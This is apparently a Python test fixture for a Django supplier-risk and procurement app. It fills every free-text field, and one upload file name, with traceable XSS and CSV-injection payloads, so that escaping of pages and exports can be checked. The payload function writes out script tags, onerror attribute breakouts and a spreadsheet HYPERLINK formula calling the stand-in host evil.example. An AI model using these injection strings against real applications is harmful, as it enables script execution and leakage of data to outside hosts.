"""A world full of hostile text: every free-text field of organisation A, its suppliers,
contracts, assessments, procurements and incidents holds a script payload, stored through the
services as a user or a supplier would store it."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from tillit.assessments import services as assessments
from tillit.assessments.models import Answer, Assessment, Finding, PortalLink
from tillit.catalogue.models import Requirement
from tillit.catalogue.rules import ASPECTS
from tillit.classification.models import Asset
from tillit.classification.services import asset_create, classification_create
from tillit.conftest import Personas
from tillit.incidents import services as incidents
from tillit.incidents.models import Case, ReportedVia
from tillit.organisations.models import Membership
from tillit.organisations.roles import Role
from tillit.organisations.services import membership_add, organisation_update
from tillit.procurement import services as procurements
from tillit.procurement.models import Procurement, Tender
from tillit.suppliers import services as suppliers
from tillit.suppliers.models import Contract, Supplier
from tillit.testing import make_catalogue, make_orgnr

# Raw text that, unescaped in a page, would run script.
RAW = ("<script>alert(", "<img src=x onerror")


# Text a spreadsheet would run as a formula starts with one of these (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def payload(label: str) -> str:
    """A formula for spreadsheets, then script in an element and breaking out of an attribute,
    named so it can be traced. The formula's first character varies with the label."""
    start = "=+-@"[sum(map(ord, label)) % 4]
    formula = f'{start}HYPERLINK("https://evil.example/?{label}","x")'
    return f'{formula}<script>alert("{label}")</script>"><img src=x onerror=alert("{label}")>'


def escaped(label: str) -> str:
    """How the payload's call looks once escaped for HTML."""
    return f"alert(&quot;{label}&quot;)"


@dataclass
class HostileWorld:
    organisation_slug: str
    asset: Asset
    supplier: Supplier
    contract: Contract
    assessment: Assessment
    link: PortalLink
    token: str
    finding: Finding
    procurement: Procurement
    requirement: Requirement
    tender: Tender
    case: Case
    # Each hostile field's label, and the text stored in it.
    texts: dict[str, str] = field(default_factory=dict)

    @property
    def labels(self) -> list[str]:
        return list(self.texts)

    def arguments(self) -> dict[str, Any]:
        """URL arguments pointing at the hostile objects (to lay over routes.arguments_of_a)."""
        assert self.finding.question is not None
        step = self.case.steps.first()
        assert step is not None
        return {
            "org": self.organisation_slug,
            "membership": Membership.objects.filter(user__email="hostile@a.test").get().pk,
            "asset": self.asset.pk,
            "procurement": self.procurement.pk,
            "requirement": self.requirement.pk,
            "adjustment": self.procurement.adjustments.get().pk,
            "tender": self.tender.pk,
            "supplier": self.supplier.pk,
            "contract": self.contract.pk,
            "document": self.finding.question.evidence.get().pk,
            "assessment": self.assessment.pk,
            "source": self.assessment.pk,
            "link": self.link.pk,
            "question": self.finding.question.pk,
            "finding": self.finding.pk,
            "case": self.case.pk,
            "step": step.pk,
            "draft": "imy",
            "fmt": "pdf",
            "kind": "contracts",
            "token": self.token,
        }


def hostile_world(personas: Personas) -> HostileWorld:
    texts: dict[str, str] = {}

    def p(label: str) -> str:
        texts[label] = payload(label)
        return texts[label]

    user = personas.admin_a
    organisation = organisation_update(
        acting_user=user, organisation=personas.org_a, name=p("organisation name")
    )
    membership_add(
        acting_user=user,
        organisation=organisation,
        email="hostile@a.test",
        role=Role.SYSTEM_OWNER,
        name=p("member name"),
    )
    text = {"sv": p("requirement text"), "en": "Text"}
    catalogue = make_catalogue(
        requirements=[
            {
                "id": "XSS-01",
                "area": "general",
                "title": {"sv": p("requirement title"), "en": "Title"},
                "ska": text,
                "ar": text,
                "motive": {"sv": p("requirement motive"), "en": "Motive"},
                "verification": text,
                "references": {"iso27001_2022": ["A.5.1"]},
                "applies_when": True,
                "ska_when": True,
            }
        ]
    )
    requirement = catalogue.requirements.get()
    asset = asset_create(
        acting_user=user,
        organisation=organisation,
        name=p("asset name"),
        description=p("asset description"),
    )
    levels: dict[str, int | None] = dict.fromkeys(ASPECTS, 2)
    classification_create(
        acting_user=user,
        asset=asset,
        answers=dict.fromkeys(ASPECTS, 1),  # raised by hand, so the reason is shown
        levels=levels,
        reasons=dict.fromkeys(ASPECTS, p("classification reason")),
        personal_data=True,
        data_subjects=100,
    )
    supplier, _created = suppliers.supplier_get_or_create(
        acting_user=user, name=p("supplier name"), country="SE", orgnr=make_orgnr()
    )
    contract = suppliers.contract_create(
        acting_user=user,
        organisation=organisation,
        supplier=supplier,
        assets=[asset],
        service=p("contract service"),
        liability_text=p("liability terms"),
        exit_text=p("exit terms"),
    )
    subprocessor, _created = suppliers.supplier_get_or_create(
        acting_user=user, name=p("subprocessor name"), country="SE", orgnr=make_orgnr()
    )
    suppliers.subprocessor_add(
        acting_user=user,
        organisation=organisation,
        supplier=supplier,
        subprocessor=subprocessor,
        service=p("subprocessor service"),
        country="SE",
    )
    suppliers.data_location_add(
        acting_user=user, contract=contract, country="SE", note=p("location note")
    )
    today = timezone.localdate()
    suppliers.certificate_add(
        acting_user=user,
        organisation=organisation,
        supplier=supplier,
        kind="iso27001",
        issuer=p("certificate issuer"),
        scope=p("certificate scope"),
        valid_from=today - dt.timedelta(days=10),
        valid_until=today + dt.timedelta(days=300),
    )
    suppliers.pentest_add(
        acting_user=user,
        organisation=organisation,
        supplier=supplier,
        performed_on=today - dt.timedelta(days=10),
        performed_by=p("pentest by"),
        scope=p("pentest scope"),
        summary=p("pentest summary"),
    )

    assessment = assessments.assessment_create(
        acting_user=user,
        organisation=organisation,
        contracts=[contract],
        title=p("assessment title"),
    )
    assessments.question_add(
        acting_user=user,
        assessment=assessment,
        area=p("question area"),
        text=p("question text"),
        mandatory=True,
    )
    link, token = assessments.link_issue(
        acting_user=user,
        assessment=assessment,
        contact_name=p("contact name"),
        contact_email="kim@leverantor.test",
    )
    questions = list(assessment.questions.order_by("position"))
    for question in questions:
        assessments.answer_save(
            link=link,
            question=question,
            version=question.version,
            answer=Answer.NOT_MET,
            description=p("answer description") if question is questions[0] else "x",
        )
    # A file name cannot hold "/" (it would be taken for a folder), so no closing tag.
    texts["document name"] = '=1+2"><img src=x onerror=alert("document name")>.pdf'
    assessments.evidence_add(
        link=link,
        question=questions[0],
        upload=SimpleUploadedFile(texts["document name"], b"%PDF-1.7 evidence"),
    )
    assessment = assessments.assessment_submit(link=link)
    assessments.answer_review(
        acting_user=user, question=questions[0], review="rejected", comment=p("review comment")
    )
    finding = assessments.finding_create(
        acting_user=user,
        assessment=assessment,
        question=questions[0],
        title=p("finding title"),
        severity="high",
        required_action=p("finding action"),
        supplier_owner=p("finding owner"),
        deadline=today + dt.timedelta(days=30),
    )
    assessments.finding_respond(link=link, finding=finding, response=p("supplier response"))

    procurement = procurements.procurement_create(
        acting_user=user,
        organisation=organisation,
        name=p("procurement name"),
        reference=payload("reference")[:100],  # cut to the field's length
        procedure="oppet",
        officer=None,
        catalogue=catalogue,
        assets=[asset],
    )
    procurements.adjustment_set(
        acting_user=user,
        procurement=procurement,
        requirement=requirement,
        action="downgrade",
        justification=p("justification"),
    )
    tender = procurements.tender_create(
        acting_user=user, procurement=procurement, tenderer=p("tenderer")
    )

    now = timezone.now()
    incident = incidents.incident_register(
        acting_user=user,
        via=ReportedVia.STAFF,
        supplier=supplier,
        title=p("incident title"),
        description=p("incident description"),
        affected_services=p("affected services"),
        data_categories=p("data categories"),
        sources=payload("incident sources"),  # not shown on any page
        started_at=now - dt.timedelta(days=2),
        discovered_at=now - dt.timedelta(days=1),
        severity="high",
    )
    case = incident.cases.get(organisation=organisation)
    step = case.steps.first()
    assert step is not None
    incidents.step_done(acting_user=user, step=step, done_at=now, reference=payload("step")[:100])
    incidents.case_note(acting_user=user, case=case, text=p("case note"))
    incidents.case_close(acting_user=user, case=case, reason=p("close reason"))
    incidents.lesson_publish(
        acting_user=user,
        case=case,
        text=p("lesson"),
        show_organisation=True,
        no_personal_data=True,
    )
    return HostileWorld(
        organisation_slug=organisation.slug,
        asset=asset,
        supplier=supplier,
        contract=contract,
        assessment=assessment,
        link=link,
        token=token,
        finding=finding,
        procurement=procurement,
        requirement=requirement,
        tender=tender,
        case=case,
        texts=texts,
    )
